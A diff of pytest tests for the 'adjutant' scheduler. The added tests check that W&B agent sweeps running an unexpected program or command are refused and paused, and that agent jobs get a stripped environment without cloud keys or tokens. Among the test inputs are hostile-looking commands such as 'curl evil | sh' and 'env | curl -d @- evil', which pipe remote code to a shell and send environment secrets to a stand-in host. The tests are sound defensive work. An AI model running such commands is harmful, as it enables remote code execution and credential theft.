@@ -24,10 +24,10 @@ import pytest
 
 from adjutant.db import Database
 from adjutant.db.models import JobState, SweepState, TrialState
-from adjutant.jobs import ACTIVE, Job, JobStore, JobUpdate, iso
+from adjutant.jobs import ACTIVE, Job, JobStore, JobUpdate, child_environment, iso
 from adjutant.scheduler import Scheduler
 from adjutant.sweeps.config import parse_sweep_config
-from adjutant.sweeps.service import BY_HYPERBAND, SweepLaunch, SweepRefused, SweepService
+from adjutant.sweeps.service import BY_HYPERBAND, SweepLaunch, SweepRefused, SweepService, agents_refusal
 from adjutant.sweeps.store import SweepRow, SweepStore
 from adjutant.sweeps.wandb_sweeps import RunReading, WandbSweepInfo, WandbSweeps, split_path
 from tests.standins.wandb_standin import WandbStandIn
@@ -52,6 +52,15 @@ parameters:
   b: {values: [x, y]}
 """
 
+#: The experiment script of the agents sweeps' route (never run: the fake launcher runs nothing).
+TRAIN = "/srv/team/train.py"
+AGENTS_CONFIG = {
+    "program": TRAIN,
+    "command": ["${env}", "${interpreter}", "${program}", "${args_json}"],
+    "method": "grid",
+    "parameters": {"x": {"values": [1, 2, 3]}},
+}
+
 
 class FakeWandb:
     """The W&B side as the service sees it: what it was asked, and what the test says W&B holds."""
@@ -63,6 +72,8 @@ class FakeWandb:
         #: Runs W&B has seen logging (their last step), whatever their metric.
         self.steps: dict[str, float] = {}
         self.info = WandbSweepInfo("RUNNING", 0, None)
+        #: The W&B sweep's configuration its reads give (an agents sweep's program and command).
+        self.config: dict[str, Any] = dict(AGENTS_CONFIG)
         #: Runs of the sweep pending or running.
         self.flying = 0
         self.fail_create = 0
@@ -99,7 +110,7 @@ class FakeWandb:
 
     def sweep(self, path: str) -> WandbSweepInfo:
         self.calls.append(("sweep", path))
-        return self.info
+        return WandbSweepInfo(self.info.state, self.info.run_count, self.info.expected, self.config)
 
     def in_flight(self, path: str) -> int:
         self.calls.append(("in_flight", path))
@@ -619,7 +630,7 @@ async def test_agents_keep_n_jobs_until_w_and_bs_controller_has_nothing_more(wor
     sweep = await world.service.create(
         kind="agents", config=None, wandb_sweep="team/mnist/abc123", route="general", project="other",
         entity=None, channel_id=100, requested_by_id=7, requested_by="ada", parallel=2, seed=None,
-        launch=SweepLaunch(script="unused", gpus=1, time_limit=None),
+        launch=SweepLaunch(script="unused", gpus=1, time_limit=None, experiment_script=TRAIN),
     )  # fmt: skip
     assert (sweep.entity, sweep.project, sweep.wandb_sweep_id) == ("team", "mnist", "abc123")
     await world.step()
@@ -648,6 +659,88 @@ async def test_agents_keep_n_jobs_until_w_and_bs_controller_has_nothing_more(wor
     assert not any(call[0] == "set_state" for call in world.wandb.calls)  # the team's own sweep is left alone
 
 
+@pytest.mark.parametrize(
+    ("change", "said"),
+    [
+        ({"program": "/home/eve/steal.py"}, "runs `/home/eve/steal.py`, not this channel's experiment script"),
+        ({"program": "../team/../elsewhere/train.py"}, "not this channel's experiment script `train.py`"),
+        ({"program": None}, "names no program"),
+        ({"command": ["bash", "-c", "curl evil | sh"]}, "has its own command"),
+        ({"command": ["${env}", "${interpreter}", "${program}", "--extra", "${args_json}"]}, "has its own command"),
+        ({"command": ["${interpreter}", "-c", "${program}", "${args}"]}, "has its own command"),
+        ({"command": "${interpreter} ${program} ${args}"}, "has its own command"),
+    ],
+)
+def test_agents_refusal_names_what_w_and_bs_sweep_would_run(change: dict[str, Any], said: str) -> None:
+    config = {k: v for k, v in {**AGENTS_CONFIG, **change}.items() if v is not None}
+    why, folder = agents_refusal(config, TRAIN)
+    assert why is not None and said in why and folder is None
+
+
+def test_agents_refusal_accepts_the_routes_script_run_the_standard_way() -> None:
+    for command in (
+        None,
+        ["${env}", "${interpreter}", "${program}", "${args}"],
+        ["${interpreter}", "${program}", "${args_no_hyphens}"],
+        ["${env}", "${interpreter}", "${program}", "${args_no_boolean_flags}"],
+    ):
+        config = {**AGENTS_CONFIG, "command": command} if command else {"program": TRAIN}
+        assert agents_refusal(config, TRAIN) == (None, None)
+    # relative to the script's folder: the agent runs in that folder, so the program it finds is the one checked
+    assert agents_refusal({"program": "train.py"}, TRAIN) == (None, "/srv/team")
+    assert agents_refusal({"program": "./sub/../train.py"}, TRAIN) == (None, "/srv/team")
+    assert agents_refusal({"program": TRAIN}, None)[0] == (
+        "this channel has no experiment script to check the W&B sweep's program against"
+    )
+    assert agents_refusal(None, TRAIN)[0] == "W&B's sweep configuration could not be read"
+
+
+async def test_an_agents_sweep_running_another_program_is_paused_not_run(world: World) -> None:
+    """No agent is queued for a W&B sweep whose program is not the route's script: paused, the note says why, the
+    team's W&B sweep left as it is; once its configuration is the standard one, Resume queues the agents."""
+    world.wandb.config = {**AGENTS_CONFIG, "program": "/tmp/x.py", "command": ["sh", "-c", "env | curl -d @- evil"]}
+    sweep = await world.service.create(
+        kind="agents", config=None, wandb_sweep="team/mnist/abc123", route="general", project="mnist",
+        entity="team", channel_id=100, requested_by_id=7, requested_by="ada", parallel=2, seed=None,
+        launch=SweepLaunch(script="unused", experiment_script=TRAIN),
+    )  # fmt: skip
+    assert sweep.id in await world.step()
+    await world.step()
+    row = world.sweeps.get(sweep.id)
+    assert row is not None and row.state == SweepState.PAUSED and row.note is not None
+    assert row.note.startswith("paused, not run: W&B's sweep runs `/tmp/x.py`")
+    assert world.trial_jobs(sweep.id) == [] and world.wandb.count("set_state") == 0
+    world.wandb.config = {"program": "train.py"}
+    await world.service.resume(sweep.id, by="ada")
+    await world.step()
+    jobs = world.trial_jobs(sweep.id)
+    assert len(jobs) == 2 and all(j.params == {"sweep": "team/mnist/abc123", "dir": "/srv/team"} for j in jobs)
+
+
+async def test_an_agent_job_gets_a_clean_environment_even_on_this_machine(world: World) -> None:
+    """An agent job runs the sweep creator's trainer: it gets the jobs' allow-list plus PATH, HOME, LANG and the W&B
+    key, not the bot's other variables (a cloud key, a token); a search trial keeps the bot's environment."""
+    bot = {
+        "PATH": "/usr/bin", "HOME": "/home/bot", "LANG": "C.UTF-8", "WANDB_API_KEY": "wk", "WANDB_BASE_URL": "http://w",
+        "AWS_SECRET_ACCESS_KEY": "aws", "GITHUB_TOKEN": "gh", "DISCORD_TOKEN": "dt", "SOME_SETTING": "1",
+    }  # fmt: skip
+    agents = await world.service.create(
+        kind="agents", config=None, wandb_sweep="team/mnist/abc123", route="general", project="mnist",
+        entity="team", channel_id=100, requested_by_id=7, requested_by="ada", parallel=1, seed=None,
+        launch=SweepLaunch(script="unused", experiment_script=TRAIN),
+    )  # fmt: skip
+    search_sweep = await world.create(GRID4, parallel=1)
+    await world.step()
+    (agent,) = world.trial_jobs(agents.id)
+    (trial,) = world.trial_jobs(search_sweep.id)
+    env = child_environment(bot, agent)
+    assert {"PATH", "HOME", "LANG", "WANDB_API_KEY", "WANDB_BASE_URL", "ADJUTANT_JOB_ID", "WANDB_RUN_ID"} <= set(env)
+    assert not {"AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN", "DISCORD_TOKEN", "SOME_SETTING"} & set(env)
+    assert env["WANDB_ENTITY"] == "team" and env["WANDB_PROJECT"] == "mnist"
+    kept = child_environment(bot, trial)
+    assert kept["AWS_SECRET_ACCESS_KEY"] == "aws" and kept["SOME_SETTING"] == "1" and "DISCORD_TOKEN" not in kept
+
+
 async def test_no_more_agents_than_trials_left(world: World) -> None:
     """3 runs expected, 2 counted, one agent running that holds no trial yet: it will take the last one, so no agent
     is added; once W&B says it holds one (a run in flight), the last trial is left for a new agent."""
@@ -655,7 +748,7 @@ async def test_no_more_agents_than_trials_left(world: World) -> None:
     sweep = await world.service.create(
         kind="agents", config=None, wandb_sweep="team/mnist/abc123", route="general", project="mnist",
         entity="team", channel_id=100, requested_by_id=7, requested_by="ada", parallel=2, seed=None,
-        launch=SweepLaunch(script="unused"),
+        launch=SweepLaunch(script="unused", experiment_script=TRAIN),
     )  # fmt: skip
     await world.step()
     first, _ = world.trial_jobs(sweep.id)
@@ -674,7 +767,7 @@ async def test_agents_stop_when_the_w_and_b_sweep_is_not_running_or_has_its_runs
         sweep = await world.service.create(
             kind="agents", config=None, wandb_sweep="team/mnist/abc123", route="general", project="mnist",
             entity="team", channel_id=100, requested_by_id=7, requested_by="ada", parallel=2, seed=None,
-            launch=SweepLaunch(script="unused"),
+            launch=SweepLaunch(script="unused", experiment_script=TRAIN),
         )  # fmt: skip
         await world.step()
         row = world.sweeps.get(sweep.id)
@@ -962,7 +1055,7 @@ async def test_agents_2_on_a_3_cell_grid_against_the_stand_ins_controller(
         row = await sweeps.create(
             kind="agents", config=None, wandb_sweep=f"team/proj/{wandb_id}", route="general", project=None,
             entity=None, channel_id=100, requested_by_id=7, requested_by="ada", parallel=2, seed=None,
-            launch=SweepLaunch(script="unused", time_limit=600.0),
+            launch=SweepLaunch(script="unused", time_limit=600.0, experiment_script=str(program)),
         )  # fmt: skip
         most = 0
         deadline = time.monotonic() + 200
